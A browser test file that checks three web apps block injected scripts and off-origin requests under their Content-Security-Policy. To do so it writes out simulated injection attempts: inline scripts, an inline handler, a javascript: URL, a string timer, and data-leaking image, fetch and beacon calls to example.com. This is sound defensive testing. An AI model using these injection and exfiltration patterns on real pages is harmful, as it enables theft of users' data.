// The apps under their Content-Security-Policy (scripts/serve.mjs sends it
// as a header, each page has it in a <meta> too): a script written into the
// page is refused, and so is every request off the page's origin. Run with:
//   node --test tests/browser/
// Needs the wasm package and the widget bundle built (the widget tests
// rebuild it), playwright-core, and Debian's /usr/bin/chromium.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { ROOT, startServer, launch, newContext } from './lib/harness.mjs';

let server, browser;
const contexts = [];

before(async () => {
  assert.ok(existsSync(`${ROOT}web/widget/dist/assurecalc-widget.js`), 'the widget bundle is missing: node scripts/build-widget.mjs');
  server = await startServer();
  browser = await launch();
});
after(async () => {
  for (const c of contexts) await c.ctx.close().catch(() => {});
  await browser?.close();
  await server?.stop();
});

// Each app, and what says it is up.
const APPS = [
  ["the buyer's page", '/web/buyer/#sample=quality&now=2025-04-20T09:30:00Z', () => document.querySelector('#answer[data-count]')],
  ['the agent view', '/web/agent/', () => document.body.dataset.ready],
  [
    'the demo storefront with its widgets',
    '/web/storefront/',
    () => [...document.querySelectorAll('assurance-calculator')].every((w) => w.result),
  ],
];

describe('under the CSP', () => {
  for (const [name, path, up] of APPS) {
    test(`${name}: an inline script is refused, and nothing is requested off the origin`, async () => {
      const c = await newContext(browser, server.origin);
      contexts.push(c);
      const { ctx, trouble } = c;
      const page = await ctx.newPage();
      const response = await page.goto(server.origin + path);
      assert.match(response.headers()['content-security-policy'], /script-src 'self' 'wasm-unsafe-eval'/);
      await page.waitForFunction(up, null, { timeout: 20e3 });
      assert.deepEqual(await page.evaluate(() => window.__csp), [], 'no violation while the app loads and answers');
      assert.deepEqual(trouble, [], 'nothing went wrong while it loaded');

      // What an injection would try: a script element with text, an inline
      // handler, a javascript: URL, a string for a timer, and sending data
      // off the origin.
      const tried = await page.evaluate(async () => {
        const ran = [];
        window.__ran = ran;
        const s = document.createElement('script');
        s.textContent = 'window.__ran.push("inline script")';
        document.head.append(s);
        const b = document.createElement('button');
        b.setAttribute('onclick', 'window.__ran.push("inline handler")');
        document.body.append(b);
        b.click();
        b.remove();
        const a = document.createElement('a');
        a.href = 'javascript:window.__ran.push("javascript: URL")';
        document.body.append(a);
        a.click();
        a.remove();
        // A timer given a string is eval: run from the page's own task.
        setTimeout('window.__ran.push("string timer")', 0);
        const img = new Image();
        const imgDone = new Promise((r) => ((img.onerror = () => r('refused')), (img.onload = () => r('loaded'))));
        img.src = 'https://example.com/pixel.png?leak=1';
        let fetched;
        try {
          await fetch('https://example.com/collect', { method: 'POST', body: 'leak', mode: 'no-cors' });
          fetched = 'sent';
        } catch {
          fetched = 'refused';
        }
        navigator.sendBeacon('https://example.com/beacon', 'leak');
        // Violations are reported as events after the fact: let them arrive.
        await new Promise((r) => setTimeout(r, 300));
        return { ran, img: await imgDone, fetched };
      });
      assert.deepEqual(tried.ran, [], 'no injected code ran');
      assert.equal(tried.img, 'refused');
      assert.equal(tried.fetched, 'refused');
      const csp = await page.evaluate(() => window.__csp);
      // (Each refusal is reported once per policy: the header's and the <meta>'s.)
      const wanted = [
        /^script-src-elem inline$/,
        /^script-src-attr inline$/,
        /^script-src eval$/,
        /^img-src https:\/\/example\.com\/pixel/,
        /^connect-src https:\/\/example\.com\/collect/,
        /^connect-src https:\/\/example\.com\/beacon/,
      ];
      for (const want of wanted) {
        assert.ok(
          csp.some((v) => want.test(v)),
          `a violation ${want} in ${JSON.stringify(csp)}`,
        );
      }
      // The harness logs every request that leaves the origin: none did.
      assert.deepEqual(
        trouble.filter((t) => /request off origin|request failed|HTTP \d/.test(t)),
        [],
      );
      // What it did log is the browser's own report of the refusals.
      assert.deepEqual(
        trouble.filter((t) => !/Content Security Policy/.test(t)),
        [],
      );
    });
  }
});
